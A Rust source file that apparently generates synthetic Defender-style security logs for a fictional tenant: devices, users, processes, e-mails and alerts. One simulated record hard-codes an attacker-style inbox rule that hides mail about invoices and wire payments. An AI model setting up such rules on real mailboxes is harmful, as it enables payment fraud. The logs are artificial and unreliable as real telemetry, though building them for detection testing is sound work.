            self.key("UserId");
            self.opt(user.upn.as_deref());
            if let Some(f) = self.ev.file {
                let url = self.sharepoint_url(f);
                let name = self.file_view(f).name;
                self.key("ObjectId");
                self.str(&url);
                self.key("SourceFileName");
                self.str(name);
                self.key("SourceRelativeUrl");
                self.str("Shared Documents");
            }
            if self.ev.action == "New-InboxRule" {
                self.key("Parameters");
                self.raw(concat!(
                    r#"[{"Name":"Name","Value":"."},{"Name":"MoveToFolder","Value":"RSS Feeds"},"#,
                    r#"{"Name":"SubjectOrBodyContainsWords","Value":"invoice;payment;wire"},"#,
                    r#"{"Name":"StopProcessingRules","Value":"True"}]"#
                ));
            }
            if self.ev.action == "MailItemsAccessed" {
                self.key("OperationProperties");
                self.raw(r#"[{"Name":"MailAccessType","Value":"Bind"},{"Name":"IsThrottled","Value":"False"}]"#);
            }
        }
        self.raw("}");
    }
}

// ───────────────────────────────── alerts ─────────────────────────────────

fn alert_info_event(c: &mut Ctx<'_>) {
    let alert = c.w.alert(c.ev.seq);
    c.ev.device = ALERTS[alert.spec as usize]
        .entities
        .contains(&Entity::Machine)
        .then_some(alert.device);
    c.ev.alert = Some(alert);
}

fn alert_evidence_event(c: &mut Ctx<'_>) {
    let w = c.w;
    let (no, row) = c.cursor;
    let alert = w.alert(no);
    let spec = &ALERTS[alert.spec as usize];
    let entity = spec.entities[row.min(spec.entities.len() - 1)];
    c.cursor = if row + 1 >= spec.entities.len() {
        (no + 1, 0)
    } else {
        (no, row + 1)
    };
    c.ev.alert = Some(alert);
    c.ev.spec = entity as u16;
    let dev = alert.device;
    match entity {
        Entity::Machine => c.ev.device = Some(dev),
        Entity::User | Entity::Mailbox => c.ev.accts[SUBJECT] = Some(alert.user),
        Entity::File => {
            c.ev.device = Some(dev);
            c.ev.file = Some(
                match w.proc_by_name(spec.process, w.devices[dev as usize].role) {
                    Some(p) if spec.process == "mk.exe" => FileRef::Proc(p),
                    _ => FileRef::Pool(w.bad_files.at(unit(alert.key)) as u32),
                },
            );
        }
        Entity::Process => {
            c.ev.device = Some(dev);
            let p = c.proc_named(dev, spec.process, Act::Spawn);
            let parent = c.parent_of(p, dev);
            c.chain(dev, parent);
            let user = alert.user;
            c.ev.procs[TARGET] = Some(c.new_proc(p, dev, user));
            c.ev.file = Some(FileRef::Proc(p));
            c.ev.accts[SUBJECT] = Some(user);
        }
        Entity::Ip | Entity::Url => {
            let remote = w.ep_pools[EpCat::Bad as usize].at(unit(alert.key >> 3)) as u32;
            let url =
                (entity == Entity::Url).then(|| w.url_pools[1].at(unit(alert.key >> 5)) as u32);
            c.ev.net = Some(NetRef {
                remote: Some(remote),
                url,
                ..NetRef::default()
            });
        }
        Entity::MailMessage => c.ev.msg = Some(c.message_near(|m| m.kind == MailKind::Phish)),
        Entity::CloudApplication => c.ev.app = (alert.key % CLOUD_APPS.len() as u64) as u16,
    }
}

fn alert_col(f: impl Fn(&mut Ctx<'_>, AlertRef, &'static AlertSpec) + 'static) -> Gen {
    when(
        |e| e.alert,
        true,
        move |c, a| f(c, a, &ALERTS[a.spec as usize]),
    )
}

fn alert_column(kind: TableKind, name: &str) -> Option<Gen> {
    let entity = |e: &Event| Some(ENTITIES[e.spec as usize]);
    Some(match name {
        "AlertId" => alert_col(|c, a, s| {
            let id = c.w.alert_id(a, s);
            c.str(&id);
        }),
        "Title" => alert_col(|c, _, s| c.str(s.title)),
        "Category" => alert_col(|c, _, s| c.str(s.category)),
        "Categories" => alert_col(|c, _, s| {
            let categories = format!("[\"{}\"]", s.category);
            c.str(&categories);
        }),
        "Severity" => alert_col(|c, _, s| c.str(s.severity)),
        "ServiceSource" => alert_col(|c, _, s| c.str(s.service)),
        "DetectionSource" => alert_col(|c, _, s| c.str(s.detection)),
        "AttackTechniques" => alert_col(|c, _, s| c.str(s.techniques)),
        "MachineGroup" => device_col(|c, d| c.opt(d.group)),
        _ if kind == TableKind::AlertInfo => return None,
        "EntityType" => when(entity, true, |c, e| c.str(e.name())),
        "EvidenceRole" => when(entity, true, |c, e| {
            let role = match e {
                Entity::Machine | Entity::User | Entity::Mailbox => "Impacted",
                _ => "Related",
            };
            c.str(role);
        }),
        "EvidenceDirection" => when(entity, true, |c, e| {
            if e == Entity::Ip {
                c.str("Destination")
            } else {
                c.null()
            }
        }),
        "ThreatFamily" => when(
            |e| e.file.and(e.alert),
            true,
            |c, a| {
                let family = ALERTS[a.spec as usize].family;
                c.opt(family);
            },
        ),
        "LocalIP" => device_col(|c, d| c.str(&d.ip)),
        "RemoteIP" => when(
            |e| {
                e.net
                    .filter(|_| e.spec == Entity::Ip as u16)
                    .and_then(|n| n.remote)
            },
            true,
            |c, r| {
                let w = c.w;
                c.str(&w.endpoints[r as usize].ip);
            },
        ),
        "RemoteUrl" => when(
            |e| e.net.and_then(|n| n.url),
            true,
            |c, u| {
                let w = c.w;
                c.str(&w.urls[u as usize].url);
            },
        ),
        "NetworkMessageId" => msg_col(|c, m| c.str(&m.network_message_id())),
        "EmailSubject" => msg_col(|c, m| c.str(m.subject())),
        "Application" => when(
            |e| (e.spec == Entity::CloudApplication as u16).then_some(e.app),
            true,
            |c, a| {
                c.str(CLOUD_APPS[a as usize].name);
            },
        ),
        "ApplicationId" => when(
            |e| (e.spec == Entity::CloudApplication as u16).then_some(e.app),
            false,
            |c, a| {
                c.uint(u64::from(CLOUD_APPS[a as usize].id));
            },
        ),
        "OAuthApplicationId" | "RegistryKey" | "RegistryValueName" | "RegistryValueData"
        | "CloudResource" | "CloudPlatform" | "ResourceType" | "ResourceID" | "SubscriptionId" => {
            nothing()
        }
        "AccountUpn" => when(
            |e| e.accts[SUBJECT],
            true,
            |c, u| {
                let w = c.w;
                c.opt(w.users[u as usize].upn.as_deref());
            },
        ),
        "AdditionalFields" => when(entity, true, |c, e| match e.fields() {
            Some(template) => c.render_json(template, true),
            None => c.null(),
        }),
        _ => return None,
    })
}

// ───────────────────────────────── world ─────────────────────────────────

/// Device roles; each has its own process, file and logon mix.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Workstation,
    Laptop,
    Dc,
    Sql,
    FileServer,
    Web,
    App,
    Linux,
    Mac,
}

const ROLES: [Role; 9] = [
    Role::Workstation,
    Role::Laptop,
    Role::Dc,
    Role::Sql,
    Role::FileServer,
    Role::Web,
    Role::App,
    Role::Linux,
    Role::Mac,
];

impl Role {
    const fn bit(self) -> u16 {
        1 << self as u16
    }

    fn is_windows(self) -> bool {
        !matches!(self, Role::Linux | Role::Mac)
    }

    fn is_server(self) -> bool {
        !matches!(self, Role::Workstation | Role::Laptop | Role::Mac)
    }
}

const WKS: u16 = Role::Workstation.bit() | Role::Laptop.bit();
const SRV: u16 =
    Role::Dc.bit() | Role::Sql.bit() | Role::FileServer.bit() | Role::Web.bit() | Role::App.bit();
const WIN: u16 = WKS | SRV;
const LNX: u16 = Role::Linux.bit();
const MAC: u16 = Role::Mac.bit();

/// What a process does, for choosing the initiating process of each table.
#[derive(Debug, Clone, Copy)]
enum Act {
    Spawn,
    Net,
    File,
    Reg,
    Img,
    Misc,
}
const ACTS: usize = 6;

/// Who a catalogue process runs as.
#[derive(Debug, Clone, Copy)]
enum RunAs {
    System,
    NetworkService,
    Root,
    /// The device's user (workstations), an admin or service account (servers).
    User,
    /// Its parent's account.
    Inherit,
    /// A named service account.
    Account(&'static str),
}

/// Where a process connects to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Net {
    None,
    Browser,
    Microsoft,
    Internal,
    Mixed,
    Suspicious,
    Unix,
    /// Mostly accepts connections on these ports.
    Server(&'static [u16]),
}

impl Net {
    /// Weights of the endpoint categories Microsoft, Web, Internal, Bad, Repo.
    fn mix(self) -> [u16; 5] {
        match self {
            Net::None => [60, 0, 40, 0, 0],
            Net::Browser => [30, 64, 4, 1, 1],
            Net::Microsoft => [88, 0, 12, 0, 0],
            Net::Internal => [10, 0, 90, 0, 0],
            Net::Mixed => [45, 10, 37, 6, 2],
            Net::Suspicious => [10, 10, 30, 50, 0],
            Net::Unix => [15, 10, 15, 1, 59],
            Net::Server(_) => [20, 0, 70, 0, 10],
        }
    }
}

/// Version information of a process image ("" = null).
#[derive(Debug, Clone, Copy)]
struct Ver {
    company: &'static str,
    product: &'static str,
    version: &'static str,
    description: &'static str,
    original: &'static str,
}

/// A Windows component.
const fn win(description: &'static str, original: &'static str) -> Ver {
    Ver {
        company: "Microsoft Corporation",
        product: "Microsoft® Windows® Operating System",
        version: "10.0.22621.4317",
        description,
        original,
    }
}

const fn ver(
    company: &'static str,
    product: &'static str,
    version: &'static str,
    description: &'static str,
    original: &'static str,
) -> Ver {
    Ver {
        company,
        product,
        version,
        description,
        original,
    }
}

const NO_VERSION: Ver = ver("", "", "", "", "");
const APPLE: Ver = ver("(APPLE)", "", "", "", "");

/// A program of the catalogue.
struct ProcSpec {
    name: &'static str,
    /// Directory (may hold `{{user}}`).
    dir: &'static str,
    ver: Ver,
    size: u32,
    /// Roles (bits) of the devices it runs on.
    hosts: u16,
    run_as: RunAs,
    parents: &'static [(&'static str, u16)],
    /// Command line templates.
    cmds: &'static [(&'static str, u16)],
    /// How often it is the actor of each `Act`.
    acts: [u16; ACTS],
    net: Net,
}

struct ProcInfo {
    spec: &'static ProcSpec,
    hashes: Hashes,
    parents: Vec<(u16, u16)>,
}

struct Hashes {
    sha1: String,
    sha256: String,
    md5: String,
}

impl Hashes {
    fn of(key: u64) -> Hashes {
        Hashes {
            sha1: hash_hex(key, 40),
            sha256: hash_hex(key ^ 0x256, 64),
            md5: hash_hex(key ^ 0x5, 32),
        }
    }
}

/// An operating system as DeviceInfo reports it.
struct OsSpec {
    platform: &'static str,
    version: &'static str,
    /// 0 = none.
    build: u32,
    revision: &'static str,
    distribution: &'static str,
    version_info: &'static str,
    arch: &'static str,
    client: &'static str,
}

/// A group of similar devices of the fleet.
struct FleetGroup {
    role: Role,
    prefix: &'static str,
    count: usize,
    /// Numbered with gaps (workstations) or 01, 02, ... (servers).
    gaps: bool,
    os: &'static [(&'static OsSpec, u16)],
    groups: &'static [(Option<&'static str>, u16)],
    /// 10.<a>.<b>.x
    subnet: (u8, u8),
    hardware: &'static [(&'static str, &'static str)],
    /// How chatty these devices are.
    weight: f64,
}

struct Device {
    name: String,
    id: String,
    role: Role,
    os: &'static OsSpec,
    /// Primary user (people's devices) or first admin (servers).
    user: u16,
    ip: String,
    mac: String,
    public_ip: String,
    group: Option<&'static str>,
    vendor: &'static str,
    model: &'static str,
    aad: Option<String>,
    /// Azure VM id, for servers running in Azure.
    azure: Option<String>,
    key: u64,
}

impl Device {
    fn gateway(&self) -> String {
        let (prefix, _) = self.ip.rsplit_once('.').unwrap_or((self.ip.as_str(), ""));
        format!("{prefix}.1")
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum UserKind {
    Builtin,
    Root,
    Service,
    Admin,
    Person,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Dom {
    NtAuthority,
    Corp,
}

struct User {
    name: String,
    display: String,
    kind: UserKind,
    domain: Dom,
    sid: Option<String>,
    upn: Option<String>,
    object_id: Option<String>,
    /// Index into `GEOS` of where they work from home.
    home: u8,
    key: u64,
}

const SYSTEM: u16 = 0;
const LOCAL_SERVICE: u16 = 1;
const NETWORK_SERVICE: u16 = 2;
const ROOT: u16 = 3;

/// Endpoint categories.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum EpCat {
    Microsoft,
    Web,
    Internal,
    Bad,
    Repo,
    /// A device of the fleet, as the client side of a connection.
    Client,
}
const EP_CATS: usize = 6;

struct Endpoint {
    host: Option<&'static str>,
    ip: String,
    port: u16,
    udp: bool,
    cat: EpCat,
    device: Option<u16>,
}

struct FileEntry {
    name: String,
    dir: String,
    hashes: Hashes,
    size: u64,
    /// `AdditionalFields.FileType`.
    kind: &'static str,
    /// Downloaded (has a `FileOriginUrl`).
    origin: bool,
    malicious: bool,
    /// Index into `FILE_KINDS`.
    source: u16,
    /// Share of its kind's activity (Zipf within the kind).
    weight: f64,
}

struct DllInfo {
    spec: &'static DllSpec,
    hashes: Hashes,
}

struct UrlEntry {
    url: String,
    domain: String,
    ip: String,
    bad: bool,
}

/// An e-mail message, derived from its number.
#[derive(Debug, Clone, Copy)]
struct Msg {
    key: u64,
    m: u64,
    kind: MailKind,
    sender: Sender,
    recipient: u16,
    subject: u16,
    direction: Direction,
    attachments: u8,
    urls: u8,
    size: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MailKind {
    Clean,
    Bulk,
    Spam,
    Phish,
    Malware,
}

#[derive(Debug, Clone, Copy)]
enum Sender {
    Internal(u16),
    External(u16),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Direction {
    Inbound,
    Outbound,
    IntraOrg,
}

impl Direction {
    fn name(self) -> &'static str {
        match self {
            Direction::Inbound => "Inbound",
            Direction::Outbound => "Outbound",
            Direction::IntraOrg => "Intra-org",
        }
    }
}

impl Msg {
    /// Unique per message number (the GUID holds a bijection of it).
    fn network_message_id(&self) -> String {
        guid(mix64(self.m ^ 0x6d5a_0e11), self.key)
    }

    fn subject(&self) -> &'static str {
        SUBJECTS[self.kind as usize][self.subject as usize].0
    }

    fn language(&self) -> &'static str {
        SUBJECTS[self.kind as usize][self.subject as usize].1
    }

    fn cluster_id(&self) -> u64 {
        hash2(u64::from(self.subject) | (self.kind as u64) << 16, 77) % 4_000_000_000
    }
}

/// An alert, derived from its number.
#[derive(Debug, Clone, Copy)]
struct AlertRef {
    no: u64,
    spec: u16,
    device: u16,
    user: u16,
    key: u64,
}

/// The simulated organisation everything is drawn from. Built from the seed
/// alone, so every table of an export (and every export of one seed) shares
/// the same devices, people and files.
struct World {
    seed: u64,
    start: i64,
    span: i64,
    /// Expected number of messages in EmailEvents.
    emails: u64,
    /// The tenant GUID of the export.
    tenant: String,
    tenant_number: u64,
    devices: Vec<Device>,
    all_devices: Pool,
    windows_devices: Pool,
    dcs: Vec<usize>,
    users: Vec<User>,
    persons: std::ops::Range<usize>,
    admins: std::ops::Range<usize>,
    services: std::ops::Range<usize>,
    person_pool: Pool,
    /// Each person's first device.
    person_devices: Vec<u16>,
    procs: Vec<ProcInfo>,
    proc_pools: Vec<[Pool; ACTS]>,
    files: Vec<FileEntry>,
    file_pools: Vec<Pool>,
    bad_files: Pool,
    dlls: Vec<DllInfo>,
    dll_pool: Pool,
    endpoints: Vec<Endpoint>,
    ep_pools: [Pool; EP_CATS],
    urls: Vec<UrlEntry>,
    /// Benign and malicious URLs.
    url_pools: [Pool; 2],
    senders: [Vec<u16>; 5],
    payloads: Vec<String>,
    registry_pool: Pool,
    event_pool: Pool,
    logon_pools: Vec<Pool>,
    alert_pool: Pool,
    risky_geos: Vec<u8>,
}

const WORLD_SALT: u64 = 0x9d2c_5680_a1b2_c3d4;

impl World {
    fn new(seed: u64, tenant: &str, start: i64, hours: u32, emails: u64) -> World {
        let mut rng = ChaCha8Rng::seed_from_u64(mix64(seed ^ WORLD_SALT));
        let (users, persons, admins, services) = build_users(&mut rng);
        let person_pool = Pool::zipf(persons.len(), 0.8, &mut rng);
        let person_pool = Pool {
            ids: person_pool
                .ids
                .iter()
                .map(|&i| i + persons.start as u32)
                .collect(),
            cum: person_pool.cum,
        };
        let devices = build_fleet(&mut rng, &users, persons.clone(), admins.start);
        let mut person_devices = vec![0u16; users.len()];
        for (i, d) in devices.iter().enumerate().rev() {
            if !d.role.is_server() {
                person_devices[d.user as usize] = i as u16;
            }
        }
        let weights: Vec<f64> = {
            let zipf = Pool::zipf(devices.len(), 0.7, &mut rng);
            let mut w = vec![0.0; devices.len()];
            let mut previous = 0.0;
            for (&id, &cum) in zipf.ids.iter().zip(&zipf.cum) {
                w[id as usize] = cum - previous;
                previous = cum;
            }
            devices
                .iter()
                .zip(w)
                .map(|(d, w)| {
                    w * FLEET
                        .iter()
                        .find(|g| g.role == d.role)
                        .map_or(1.0, |g| g.weight)
                })
                .collect()
        };
        let all_devices = Pool::new(weights.iter().copied().enumerate());
        let windows_devices = Pool::new(
            weights
                .iter()
                .zip(&devices)
                .map(|(w, d)| if d.role.is_windows() { *w } else { 0.0 })
                .enumerate(),
        );
        let dcs = (0..devices.len())
            .filter(|&i| devices[i].role == Role::Dc)
            .collect();

        let procs: Vec<ProcInfo> = PROCS
            .iter()
            .map(|spec| ProcInfo {
                spec,
                hashes: Hashes::of(hash2(
                    seed,
                    xxhash_rust::xxh3::xxh3_64(spec.name.as_bytes()),
                )),
                // Parents by index, on the same kind of device.
                parents: spec
                    .parents
                    .iter()
                    .filter_map(|(name, w)| {
                        let p = PROCS
                            .iter()
                            .position(|p| p.name == *name && p.hosts & spec.hosts != 0)?;
                        Some((p as u16, *w))
                    })
                    .collect(),
            })
            .collect();
        let proc_pools = ROLES
            .iter()
            .map(|role| {
                std::array::from_fn(|act| {
                    Pool::new(PROCS.iter().enumerate().map(|(i, p)| {
                        let hosted = p.hosts & role.bit() != 0;
                        (i, if hosted { f64::from(p.acts[act]) } else { 0.0 })
                    }))
                })
            })
            .collect();

        let files = build_files(&mut rng, seed);
        let file_pools = ROLES
            .iter()
            .map(|role| {
                Pool::new(files.iter().enumerate().map(|(i, f)| {
                    let kind = &FILE_KINDS[f.source as usize];
                    let hosted = kind.hosts & role.bit() != 0 && !kind.malicious;
                    (i, if hosted { f.weight } else { 0.0 })
                }))
            })
            .collect();
        let bad_files = Pool::new(
            files
                .iter()
                .enumerate()
                .map(|(i, f)| (i, if f.malicious { 1.0 } else { 0.0 })),
        );
        let dlls = DLLS
            .iter()
            .map(|spec| DllInfo {
                spec,
                hashes: Hashes::of(hash2(
                    seed ^ 0xd11,
                    xxhash_rust::xxh3::xxh3_64(spec.name.as_bytes()),
                )),
            })
            .collect();
        let dll_pool = Pool::new(
            DLLS.iter()
                .enumerate()
                .map(|(i, d)| (i, f64::from(d.weight))),
        );

        let endpoints = build_endpoints(seed, &devices);
        let ep_pools = std::array::from_fn(|cat| {
            Pool::new(endpoints.iter().enumerate().map(|(i, e)| {
                let weight = if e.cat as usize == cat {
                    1.0 / (1.0 + (i % 13) as f64)
                } else {
                    0.0
                };
                (i, weight)
            }))
        });
        let urls = build_urls(&mut rng);
        let url_pools = std::array::from_fn(|bad| {
            Pool::new(
                urls.iter()
                    .enumerate()
                    .map(|(i, u)| (i, if u.bad == (bad == 1) { 1.0 } else { 0.0 })),
            )
        });
        let senders = std::array::from_fn(|kind| {
            (0..SENDERS.len() as u16)
                .filter(|&s| SENDERS[s as usize].kind as usize == kind)
                .collect()
        });
        let payloads = PAYLOADS.iter().map(|p| encode_powershell(p)).collect();
        let registry_pool = Pool::new(
            REGISTRY
                .iter()
                .enumerate()
                .map(|(i, r)| (i, f64::from(r.weight))),
        );
        let event_pool = Pool::new(
            DEVICE_EVENTS
                .iter()
                .enumerate()
                .map(|(i, e)| (i, f64::from(e.weight))),
        );
        let logon_pools = ROLES
            .iter()
            .map(|role| {
                Pool::new(LOGONS.iter().enumerate().map(|(i, l)| {
                    (
                        i,
                        if l.hosts & role.bit() != 0 {
                            f64::from(l.weight)
                        } else {
                            0.0
                        },
                    )
                }))
            })
            .collect();
        let alert_pool = Pool::new(
            ALERTS
                .iter()
                .enumerate()
                .map(|(i, a)| (i, f64::from(a.weight))),
        );
        let risky_geos = (0..GEOS.len() as u8)
            .filter(|&g| GEOS[g as usize].risky)
            .collect();
        World {
            seed,
            start,
            span: i64::from(hours) * HOUR,
            emails,
            tenant: tenant.to_string(),
            tenant_number: 4_000_000_000_000_000_000
                + hash2(seed, 0x7e4a) % 1_000_000_000_000_000_000,
            devices,
            all_devices,
            windows_devices,
            dcs,
            users,
            persons,
            admins,
            services,
            person_pool,
            person_devices,
            procs,
            proc_pools,
            files,
            file_pools,
            bad_files,
            dlls,
            dll_pool,
            endpoints,
            ep_pools,
            urls,
            url_pools,
            senders,
            payloads,
            registry_pool,
            event_pool,
            logon_pools,
            alert_pool,
            risky_geos,
        }
    }

    fn proc_by_name(&self, name: &str, role: Role) -> Option<u16> {
        PROCS
            .iter()
            .position(|p| p.name == name && p.hosts & role.bit() != 0)
            .map(|i| i as u16)
    }

    /// The process every chain starts from.
    fn root_proc(&self, role: Role) -> u16 {
        let name = match role {
            Role::Linux => "systemd",
            Role::Mac => "launchd",
            _ => "services.exe",
        };
        self.proc_by_name(name, role).unwrap_or(0)
    }

    fn user_by_name(&self, name: &str) -> Option<u16> {
        self.users
            .iter()
            .position(|u| u.name == name)
            .map(|i| i as u16)
    }

    /// The device a person uses (admins and service accounts: a workstation).
    fn persons_device(&self, user: u16) -> usize {
        match self.person_devices.get(user as usize) {
            Some(&d) if self.devices[d as usize].user == user => d as usize,
            _ => (hash2(self.seed, u64::from(user)) % (self.devices.len() as u64 / 2)) as usize,
        }
    }

    fn message(&self, m: u64) -> Msg {
        let key = hash2(self.seed ^ 0x3a11, m);
        let kind = *pick_at(
            &[
                (MailKind::Clean, 78),
                (MailKind::Bulk, 8),
                (MailKind::Spam, 7),
                (MailKind::Phish, 5),
                (MailKind::Malware, 2),
            ],
            key,
        );
        let recipient = self.person_pool.at(unit(key >> 3)) as u16;
        let direction = match (kind, key % 100) {
            (MailKind::Clean, 0..=14) => Direction::IntraOrg,
            (MailKind::Clean, 15..=19) => Direction::Outbound,
            _ => Direction::Inbound,
        };
        let sender = if direction == Direction::Inbound {
            let list = &self.senders[kind as usize];
            Sender::External(list[(key >> 17) as usize % list.len()])
        } else {
            Sender::Internal(self.person_pool.at(unit(key >> 5)) as u16)
        };
        let (attachments, urls) = match kind {
            MailKind::Clean => (
                if key.is_multiple_of(4) {
                    1 + (key >> 40) % 3
                } else {
                    0
                },
                (key >> 44) % 12,
            ),
            MailKind::Bulk => (0, 5 + (key >> 44) % 25),
            MailKind::Spam => (0, 1 + (key >> 44) % 4),
            MailKind::Phish => ((key >> 40) % 2, 1 + (key >> 44) % 3),
            MailKind::Malware => (1 + (key >> 40) % 2, (key >> 44) % 2),
        };
        Msg {
            key,
            m,
            kind,
            sender,
            recipient,
            subject: ((key >> 23) % SUBJECTS[kind as usize].len() as u64) as u16,
            direction,
            attachments: attachments as u8,
            urls: urls as u8,
            size: 8_000 + ((key >> 30) % 400_000) as u32 + 250_000 * attachments as u32,
        }
    }

    /// The `k`-th URL of a message (phishing messages link to bad sites).
    fn message_url(&self, msg: &Msg, k: u16) -> u32 {
        let bad = matches!(msg.kind, MailKind::Phish | MailKind::Malware);
        self.url_pools[usize::from(bad)].at(unit(hash2(msg.key, u64::from(k)))) as u32
    }

    /// The `k`-th attachment of a message: its name and content key (hash, size).
    fn attachment(&self, msg: &Msg, k: u16) -> (&'static str, u64) {
        let names = ATTACHMENTS[msg.kind as usize];
        let h = hash2(msg.key ^ 0xa77, u64::from(k));
        let name = names[(h % names.len() as u64) as usize];
        // Few distinct contents, so one hash is seen in several messages.
        let variants = if msg.kind == MailKind::Clean { 40 } else { 6 };
        (
            name,
            hash3(
                self.seed,
                xxhash_rust::xxh3::xxh3_64(name.as_bytes()),
                (h >> 32) % variants,
            ),
        )
    }

    fn sender_address(&self, msg: &Msg) -> String {
        match msg.sender {
            Sender::Internal(u) => self.users[u as usize].upn.clone().unwrap_or_default(),
            Sender::External(s) => SENDERS[s as usize].address.to_string(),
        }
    }

    fn recipient_address(&self, msg: &Msg) -> String {
        if msg.direction == Direction::Outbound {
            let (first, last) = PARTNER_CONTACTS[(msg.key >> 13) as usize % PARTNER_CONTACTS.len()];
            format!("{first}.{last}@fabrikam.com")
        } else {
            self.users[msg.recipient as usize]
                .upn
                .clone()
                .unwrap_or_default()
        }
    }

    fn alert(&self, no: u64) -> AlertRef {
        let key = hash2(self.seed ^ 0xa1e7, no);
        let device = self.windows_devices.at(unit(key >> 2)) as u16;
        AlertRef {
            no,
            spec: self.alert_pool.at(unit(key)) as u16,
            device,
            user: self.devices[device as usize].user,
            key,
        }
    }

    /// `AlertId`: unique per alert number, in the format of the service.
    fn alert_id(&self, a: AlertRef, spec: &AlertSpec) -> String {
        let mut id = String::with_capacity(42);
        if spec.service == MDE {
            let ticks =
                (self.start / 100 + TICKS_AT_UNIX_EPOCH) as u64 + a.no * 7_919 + a.key % 7_919;
            id.push_str("da");
            push_u64(&mut id, ticks);
            id.push_str("_-");
            push_u64(&mut id, (a.key >> 33) % 2_147_483_647);
        } else {
            id.push_str(spec.id_prefix());
            push_hex(&mut id, mix64(a.no ^ self.seed), 16, false);
            push_hash(&mut id, a.key, 24);
        }
        id
    }
}

fn build_users(
    rng: &mut ChaCha8Rng,
) -> (
    Vec<User>,
    std::ops::Range<usize>,
    std::ops::Range<usize>,
    std::ops::Range<usize>,
) {
    let mut users = Vec::new();
    let mut taken = BTreeSet::new();
    let builtin = |name: &str, display: &str, sid: &str, kind, domain| User {
        name: name.to_string(),
        display: display.to_string(),
        kind,
        domain,
        sid: (!sid.is_empty()).then(|| sid.to_string()),
        upn: None,
        object_id: None,
        home: 0,
        key: xxhash_rust::xxh3::xxh3_64(name.as_bytes()),
    };
    users.push(builtin(
        "system",
        "SYSTEM",
        "S-1-5-18",
        UserKind::Builtin,
        Dom::NtAuthority,
    ));
    users.push(builtin(
        "local service",
        "LOCAL SERVICE",
        "S-1-5-19",
        UserKind::Builtin,
        Dom::NtAuthority,
    ));
    users.push(builtin(
        "network service",
        "NETWORK SERVICE",
        "S-1-5-20",
        UserKind::Builtin,
        Dom::NtAuthority,
    ));
    users.push(builtin("root", "root", "", UserKind::Root, Dom::Corp));
    let account = |users: &mut Vec<User>,
                   name: String,
                   display: String,
                   kind: UserKind,
                   rid: usize,
                   rng: &mut ChaCha8Rng| {
        let key: u64 = rng.random();
        let home = *pick(rng, HOME_GEOS);
        users.push(User {
            upn: Some(format!("{name}@contoso.com")),
            sid: Some(format!("{DOMAIN_SID}-{rid}")),
            object_id: Some(guid(key, key.rotate_left(23))),
            name,
            display,
            kind,
            domain: Dom::Corp,
            home,
            key,
        });
    };
    let services_start = users.len();
    for (i, name) in SERVICE_ACCOUNTS.iter().enumerate() {
        account(
            &mut users,
            name.to_string(),
            name.to_string(),
            UserKind::Service,
            1_120 + i,
            rng,
        );
    }
    let services = services_start..users.len();
    let mut people = Vec::new();
    for _ in 0..PERSONS {
        let first = FIRST_NAMES[rng.random_range(0..FIRST_NAMES.len())];
        let last = LAST_NAMES[rng.random_range(0..LAST_NAMES.len())];
        let folded_first = ascii_fold(first);
        let base = format!(
            "{}{}",
            folded_first.chars().next().unwrap_or('x'),
            ascii_fold(last)
        );
        let mut name = base.clone();
        let mut n = 2;
        while !taken.insert(name.clone()) {
            name = format!("{base}{n}");
            n += 1;
        }
        people.push((name, format!("{first} {last}")));
    }
    let admins_start = users.len();
    for (i, (name, display)) in people.iter().take(ADMINS).enumerate() {
        account(
            &mut users,
            format!("adm-{name}"),
            format!("{display} (Admin)"),
            UserKind::Admin,
            1_150 + i,
            rng,
        );
    }
    let admins = admins_start..users.len();
    let persons_start = users.len();
    for (i, (name, display)) in people.into_iter().enumerate() {
        account(
            &mut users,
            name,
            display,
            UserKind::Person,
            1_201 + i * 3,
            rng,
        );
    }
    let persons = persons_start..users.len();
    (users, persons, admins, services)
}

/// Lower-case ASCII letters of a name (`Müller` → `muller`, `O'Brien` → `obrien`).
fn ascii_fold(s: &str) -> String {
    s.chars()
        .flat_map(|c| c.to_lowercase())
        .filter_map(|c| match c {
            'a'..='z' | '0'..='9' => Some(c),
            'à' | 'á' | 'â' | 'ä' | 'å' | 'ã' => Some('a'),
            'ç' | 'ć' | 'č' => Some('c'),
            'è' | 'é' | 'ê' | 'ë' | 'ę' => Some('e'),
            'ì' | 'í' | 'î' | 'ï' | 'ı' => Some('i'),
            'ł' => Some('l'),
            'ñ' | 'ń' => Some('n'),
            'ò' | 'ó' | 'ô' | 'ö' | 'ø' | 'õ' => Some('o'),
            'ś' | 'š' | 'ş' => Some('s'),
            'ù' | 'ú' | 'û' | 'ü' | 'ư' => Some('u'),
            'ý' | 'ÿ' => Some('y'),
            'ž' | 'ź' | 'ż' => Some('z'),
            'ğ' => Some('g'),
            'ễ' => Some('e'),
            _ => None,
        })
        .collect()
}

fn build_fleet(
    rng: &mut ChaCha8Rng,
    users: &[User],
    persons: std::ops::Range<usize>,
    first_admin: usize,
) -> Vec<Device> {
    let mut order: Vec<usize> = persons.collect();
    order.shuffle(rng);
    let mut owners = order.into_iter().cycle();
    let mut devices = Vec::new();
    for group in FLEET {
        let mut number = 0usize;
        for i in 0..group.count {
            number += if group.gaps {
                rng.random_range(1..=4)
            } else {
                1
            };
            let owner = if group.role.is_server() {
                first_admin
            } else {
                owners.next().unwrap_or(first_admin)
            };
            let name = if group.role == Role::Mac {
                format!("{}{}", group.prefix, users[owner].name)
            } else if group.gaps {
                format!("{}{number:04}", group.prefix)
            } else {
                format!("{}{number:02}", group.prefix)
            };
            let key = hash2(rng.random(), devices.len() as u64);
            let (vendor, model) = group.hardware[rng.random_range(0..group.hardware.len())];
            let ip = format!(
                "10.{}.{}.{}",
                group.subnet.0,
                usize::from(group.subnet.1) + i / 240,
                10 + i % 240
            );
            let mut mac = String::with_capacity(17);
            for b in 0..6 {
                if b > 0 {
                    mac.push('-');
                }
                push_hex(&mut mac, key >> (8 * b), 2, true);
            }
            let public_ip = match group.role {
                Role::Laptop | Role::Mac => {
                    let geo = &GEOS[users[owner].home as usize];
                    format!("{}{}.{}", geo.prefix, key % 250 + 2, (key >> 8) % 250 + 2)
                }
                _ => format!("{}{}", CORP_EGRESS, 4 + key % 4),
            };
            let azure =
                (group.role.is_server() && group.role.is_windows() && key.is_multiple_of(2))
                    .then(|| guid(key.rotate_left(7), key));
            devices.push(Device {
